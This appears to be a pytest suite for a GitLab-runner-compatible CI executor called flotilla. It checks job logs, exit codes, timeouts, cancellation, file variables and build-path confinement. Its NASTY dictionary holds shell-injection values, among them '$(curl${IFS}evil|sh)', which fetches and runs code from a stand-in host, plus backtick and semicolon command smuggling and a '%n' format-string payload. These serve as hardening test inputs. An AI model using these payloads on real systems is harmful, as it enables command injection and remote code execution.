"""The scenarios of job-execution.md 10.5 that need neither git nor artifacts, each under its number, in one run for each
shell; where flotilla decides otherwise than the peer (docs/jobs.md), what is asserted is ours and the rule is named."""

import re
import secrets
import signal
import socket

import pytest

from checker.jobs import Job, make_job
from checker.rules import raw_lines
from checker.run import PATIENCE, Run, wait_for
from test_run import assert_nothing_lost, wait_for_trace
from test_shells import SHELLS, use_shell

REASONS = ["unknown_failure", "script_failure", "job_canceled", "runner_system_failure", "job_execution_timeout",
           "runner_configuration_error"]

# hardening.md 13: what must come out of a variable and of an echoed command as it went in.
NASTY = {
    "hardening_1": "$(curl${IFS}evil|sh)", "hardening_2": "`id`;a;id", "hardening_3": "it's ';id;'",
    "hardening_4": "a\nid", "hardening_5": "-n", "hardening_6": "~ * {a,b} !x a\\", "hardening_15": "%s%n%s%1$*2$n"}


def job_of(number, script, after=None, steps=None, variables=(), timeout=600, project=9, path="g/p", **payload):
    token = "glcbt-" + secrets.token_hex(16)
    if steps is None:
        steps = [("script", script)]
    if after:
        steps = [*steps, ("after_script", after)]
    whole = {
        "id": number, "token": token, "allow_git_fetch": False,
        "job_info": {"name": f"job-{number}", "stage": "test", "project_id": project, "project_name": "p"},
        "git_info": {"repo_url": f"https://gitlab.invalid/{path}.git", "ref": "main", "sha": "1" * 40},
        "runner_info": {"timeout": timeout},
        "variables": [{"key": "GIT_STRATEGY", "value": "none"}, *variables],
        "steps": [{"name": name, "script": lines} for name, lines in steps],
        "features": {"trace_sections": True, "failure_reasons": REASONS}, **payload}
    return Job(id=number, payload=whole, token=token)


def variable(key, value, **attributes):
    return {"key": key, "value": value, **attributes}


class Ended:
    """What came of a job."""

    def __init__(self, state):
        self.final = state.finals[0] if state.finals else {}
        self.lines = [line.plain.decode() for line in raw_lines(bytes(state.trace))]
        self.text = "\n".join(self.lines)

    def result(self):
        return self.final.get("state"), self.final.get("failure_reason", ""), self.final.get("exit_code", 0)

    def has(self, *lines):
        """Whether these lines are in the log, one right behind the other."""
        at = range(len(self.lines) - len(lines) + 1)
        return any(self.lines[i:i + len(lines)] == list(lines) for i in at)


SUCCESS = ("success", "", 0)


class Scenarios:
    """Jobs and what must come of them; `held` are files that jobs wait for."""

    def __init__(self, folder, shell):
        self.folder = folder
        self.shell = shell
        self.checks = {}
        self.jobs = []

    def add(self, number, check, *arguments, name="", **more):
        job = job_of(number, *arguments, **more)
        self.jobs.append(job)
        self.checks[name or f"job_execution_10_5_{number}"] = (number, check)

    def out(self, name):
        return self.folder / name

    def add_all(self):
        self.add(1, lambda e: e.result() == SUCCESS and e.has("$ echo hi", "hi") and e.lines[-1] == "Job succeeded" and
                 e.lines[0].startswith("Running with flotilla "), ["echo hi"])
        self.add(2, lambda e: e.has("$ echo a # collapsed multi-line command", "a", "b"), ["echo a\necho b"])
        self.add(3, lambda e: re.search(r"section_start:\d+:section_script_step_0\[hide_duration=true,collapsed=true\].*"
                                        r"\$ echo a\necho b\nsection_end:\d+:section_script_step_0\S*\na\nb\n",
                                        e.text) and e.has("  feature flags: FF_SCRIPT_SECTIONS:true"),
                 ["echo a\necho b"], variables=[variable("FF_SCRIPT_SECTIONS", "true")])
        self.add(4, lambda e: e.has("$ echo one", "one", "", "$ echo two", "two"), ["echo one", "   ", "echo two"])
        self.add(5, lambda e: e.has("Running after script...", "$ echo $CI_JOB_STATUS", "failed") and
                 e.lines[-1] == "ERROR: Job failed: run exit (exit code: 5): Process exited with status 5" and
                 e.result() == ("failed", "script_failure", 5), ["exit 5"], ["echo $CI_JOB_STATUS"])
        self.add(6, lambda e: e.result() == SUCCESS and e.has(
            "WARNING: after_script failed, but job will continue unaffected: run exit (exit code: 1): Process exited with "
            "status 1"), ["true"], ["exit 1"])
        self.add(7, lambda e: e.result() == ("failed", "script_failure", 1) and "unaffected" not in e.text,
                 ["true"], ["exit 1"], variables=[variable("AFTER_SCRIPT_IGNORE_ERRORS", "false")])
        self.add(8, lambda e: e.result() == ("failed", "job_execution_timeout", 0) and
                 "WARNING: step_script could not run to completion because the timeout was exceeded." in e.text and
                 e.has("timedout") and e.lines[-1] == "ERROR: Job failed: script timeout: context deadline exceeded",
                 ["sleep 600"], ["echo $CI_JOB_STATUS"], variables=[variable("RUNNER_SCRIPT_TIMEOUT", "1s")])
        # Other than the peer's, our clean-up runs whatever ended the job (docs/jobs.md, hardening.md S4).
        self.add(9, lambda e: e.result() == ("failed", "job_execution_timeout", 0) and
                 e.lines[-1] == "ERROR: Job failed: execution took longer than 4s seconds" and
                 "Running after" not in e.text and
                 ("step_script" not in e.text or "Cleaning up project directory" in e.text),
                 ["sleep 600"], ["true"], timeout=4)
        self.add(10, lambda e: e.result() == ("failed", "job_canceled", 0) and e.lines[-1] == "ERROR: Job failed: canceled" and
                 e.has("WARNING: script canceled externally (UI, API)") and e.has("canceled"),
                 ["while echo running; do sleep 0.3; done"], ["echo $CI_JOB_STATUS"])
        self.add(11, lambda e: not self.out("after-11").exists(),
                 ["echo $FILE > '" + str(self.out("file-11")) + "'", "while echo running; do sleep 0.3; done"],
                 ["echo > '" + str(self.out("after-11")) + "'"], variables=[variable("FILE", "x", file=True)])
        self.add(12, lambda e: e.result() == SUCCESS and e.has("after ended"), ["true"],
                 ["while ! [ -e '" + str(self.out("go-on-12")) + "' ]; do echo after; sleep 0.2; done; echo after ended"])
        self.add(30, lambda e: e.result() == SUCCESS and e.lines.count("X is 1") == 2, None, ["echo X is $X"],
                 steps=[("script", ["echo X=1 >> $GITLAB_ENV"]), ("Second", ["echo X is $X"])])
        # A special builtin ends a shell that is no bash with its own status.
        self.add(31, lambda e: e.result() == ("failed", "script_failure", 1 if self.shell == "bash" else 2) and
                 "never" not in e.text, None, steps=[("script", ["echo >> $GITLAB_ENV"]), ("second", ["echo never"])])
        # Absolute from the beginning (job-execution.md 11): the peer prints $PWD/builds/... as it is.
        self.add(32, lambda e: re.search(r"\nenv=/\S+/builds/\S+\.tmp/gitlab_runner_env\n", e.text), ["echo env=$GITLAB_ENV"])
        self.add(33, lambda e: re.search(r"\nfile=/\S+\.tmp/FILE\n.*\nit's \$X$", e.text, re.M), ["echo file=$FILE", "cat $FILE"],
                 variables=[variable("FILE", "it's $X\n", file=True, raw=True)])
        meet = "pwd; : > '{}'; while ! [ -e '{}' ]; do sleep 0.05; done"
        for number, other in ((38, 138), (138, 38)):
            self.add(number, lambda e: True, [meet.format(self.out(f"here-{number}"), self.out(f"here-{other}"))],
                     project=38, path="ns/p")
        self.add(40, lambda e: "step_script" in e.text and "release" not in e.text, None,
                 steps=[("script", ["exit 1"]), ("release", ["true"])])
        self.add(42, lambda e: e.lines[-1] == "ERROR: Job failed: run exit (exit code: 7): Process exited with [MASKED]",
                 ["exit 7"], variables=[variable("HIDDEN", "status 7", masked=True)])
        self.add(100, lambda e: all(f"<{value}>" in e.text for value in NASTY.values()),
                 [f"printf '<%s>\\n' \"$V{i}\"" for i in range(len(NASTY))],
                 variables=[variable(f"V{i}", value, raw=True) for i, value in enumerate(NASTY.values())],
                 name=" ".join(NASTY))
        self.add(101, lambda e: e.has("$ echo 1.5 a b", "1.5 a b"),
                 ["echo ${{ job.inputs.n }} ${{job.inputs.text}}"], name="inputs",
                 inputs=[{"key": "n", "value": {"type": "number", "content": 1.5}},
                         {"key": "text", "value": {"type": "string", "content": "a b"}}])
        self.add(102, lambda e: e.result() == ("failed", "runner_configuration_error", 0) and
                 "the job has no such input: ${{ job.inputs.other }}" in e.lines[-1], ["echo ${{ job.inputs.other }}"],
                 name="inputs_refused", inputs=[{"key": "n", "value": {"type": "number", "content": 1}}])
        self.add(103, lambda e: e.has("one $HOME"), None, name="release_lines",
                 steps=[("release", ["printf '%s\\n' '$NUMBER $$HOME'"])], variables=[variable("NUMBER", "one")])
        self.add(104, lambda e: e.has('Job triggered by policy "scan".') and
                 e.has("Variables of the user are ignored in this job, except A, B."), ["true"], name="policy",
                 policy_options={"execution_policy_job": True, "policy_name": "scan",
                                 "policy_variables_override_allowed": False,
                                 "policy_variables_override_exceptions": ["A", "B"]})

    def drive(self, run):
        """What happens to jobs while they run."""
        traces = run.coordinator.jobs
        for number, how in ((10, "canceling"), (11, "canceled")):
            assert wait_for(lambda n=number: b"O running\n" in traces[n].trace), run.log_tail()
            run.coordinator.cancel(number, how)
        assert wait_for(lambda: b"O after\n" in traces[12].trace), run.log_tail()
        run.coordinator.cancel(12)
        told = self.answered(run)
        assert wait_for(lambda: self.answered(run) > told + 1), run.log_tail()
        self.out("go-on-12").touch()

    @staticmethod
    def answered(run):
        return sum(record.job_id == 12 for record in list(run.coordinator.records))


@pytest.mark.parametrize("name", SHELLS)
def test_job_execution_10_5_scenarios(folder, binary, plugin_dir, name):
    setting, command, program = SHELLS[name]
    run = Run(folder, binary, plugin_dir, shell=setting, capacity=16, max_instances=2, idle_count=32, idle_time="1h",
              concurrent=40)
    run.start()
    assert wait_for(lambda: len(list(run.instances_dir.glob("*/session"))) == 2), run.log_tail()
    use_shell(run, command, program)
    scenarios = Scenarios(folder, name)
    scenarios.add_all()
    run.coordinator.add(*scenarios.jobs)
    scenarios.drive(run)
    assert run.coordinator.wait_all_ended(PATIENCE), run.log_tail()
    file_11 = run.folder.joinpath(scenarios.out("file-11").read_text().strip())
    assert file_11.is_absolute() and wait_for(lambda: not file_11.exists()), "an abort leaves file variables behind"
    assert run.stop() == 0
    run.watch.stop()
    run.coordinator.close()
    ended = {job.id: Ended(run.coordinator.jobs[job.id]) for job in scenarios.jobs}
    wrong = [key for key, (number, check) in scenarios.checks.items() if not check(ended[number])]
    places = sorted(line for n in (38, 138) for line in ended[n].lines if line.endswith("/ns/p"))
    assert [place.split("/")[-3] for place in places] == ["0", "1"]
    assert wrong == [], "\n".join(ended[scenarios.checks[key][0]].text for key in wrong) + run.log_tail()


def test_job_execution_10_5_39_41_43_and_what_the_configuration_rules(folder, binary, plugin_dir):
    with socket.create_server(("127.0.0.1", 0)) as silent:
        run = Run(folder, binary, plugin_dir, shell="bash", max_use_count=1, max_instances=3, runner_extra=(
            '  pre_build_script = "echo pre"\n  use_slot_cgroups = true\n  debug_trace_disabled = true\n'
            '  get_sources_timeout = "2s"\n  environment = ["FF_SCRIPT_SECTIONS=1", "OURS=runner"]\n'
            "  [runners.instance]\n    use_common_build_dir = true\n"
            "  [runners.custom_build_dir]\n    enabled = true\n"
            "  [runners.feature_flags]\n    FF_TIMESTAMPS = false\n    FF_CONCRETE = true\n"))
        whole = job_of(1, None, ["true"], steps=[("script", ["pwd", "echo $GITLAB_RUNNER_SLOT_CGROUP $OURS"]),
                                                 ("release", ["true"])],
                       variables=[variable("FF_TIMESTAMPS", "true"), variable("CI_DEBUG_TRACE", "true"),
                                  variable("RESTORE_CACHE_ATTEMPTS", "11")])
        custom = job_of(2, ["pwd"], variables=[variable("GIT_CLONE_PATH", "$CI_BUILDS_DIR/mine")])
        outside = job_of(3, ["pwd"], variables=[variable("GIT_CLONE_PATH", "/etc")])
        hanging = job_of(4, ["true"], ["true"])
        hanging.payload["git_info"] |= {"repo_url": f"http://127.0.0.1:{silent.getsockname()[1]}/g/p.git",
                                        "refspecs": ["+refs/heads/main:refs/remotes/origin/main"]}
        hanging.payload["variables"] = []
        run.coordinator.add(whole, custom, outside, hanging)
        run.start()
        assert run.coordinator.wait_all_ended(PATIENCE), run.log_tail()
        assert run.stop() == 0
        run.watch.stop()
        run.coordinator.close()
    first, second, third, fourth = (Ended(run.coordinator.jobs[n]) for n in (1, 2, 3, 4))
    assert first.result() == SUCCESS, first.text
    assert first.lines.count("pre") == 2, "job_execution_10_5_41"
    assert re.search(r"^/\S+/builds/g/p$", first.text, re.M), "job_execution_10_5_39"
    assert first.has("gitlab-runner/slot-0 runner"), "job_execution_10_5_43"
    assert first.has("  feature flags: FF_CONCRETE:true, FF_SCRIPT_SECTIONS:true, FF_TIMESTAMPS:false"), first.text
    assert first.has("WARNING: CI_DEBUG_TRACE: usage is disabled on this Runner",
                     "RESTORE_CACHE_ATTEMPTS: number of attempts out of the range [1, 10], clamping to: 10"), first.text
    assert b"Z 0" not in run.coordinator.jobs[1].trace, "the configuration's word on FF_TIMESTAMPS counts"
    assert re.search(r"^/\S+/builds/mine$", second.text, re.M), second.text
    assert third.result() == ("failed", "runner_configuration_error", 0)
    assert re.search(r'ERROR: Job failed: the GIT_CLONE_PATH="/etc" has to be within "/\S+/builds"$', third.lines[-1])
    assert fourth.result() == ("failed", "job_execution_timeout", 0), fourth.text
    assert fourth.lines[-1].endswith("ERROR: Job failed: get sources timeout: exceeded timeout of 2s")
    assert "Running after" not in fourth.text and "step_script" not in fourth.text


def test_job_execution_10_5_37_a_manager_that_is_told_to_stop_costs_no_job(folder, binary, plugin_dir):
    """The peer ends its jobs as interrupted; ours go on and are adopted (architecture.md 1)."""
    run = Run(folder, binary, plugin_dir)
    run.coordinator.add(make_job(1, str(run.marks), lines=4, gate=str(folder / "gate")))
    run.start()
    wait_for_trace(run, 1, b"line 0004")
    run.process.send_signal(signal.SIGTERM)
    assert run.wait_dead(PATIENCE) and run.process.returncode == 0, run.log_tail()
    run.start()
    assert run.wait_up()
    (folder / "gate").touch()
    assert_nothing_lost(run, run.finish())
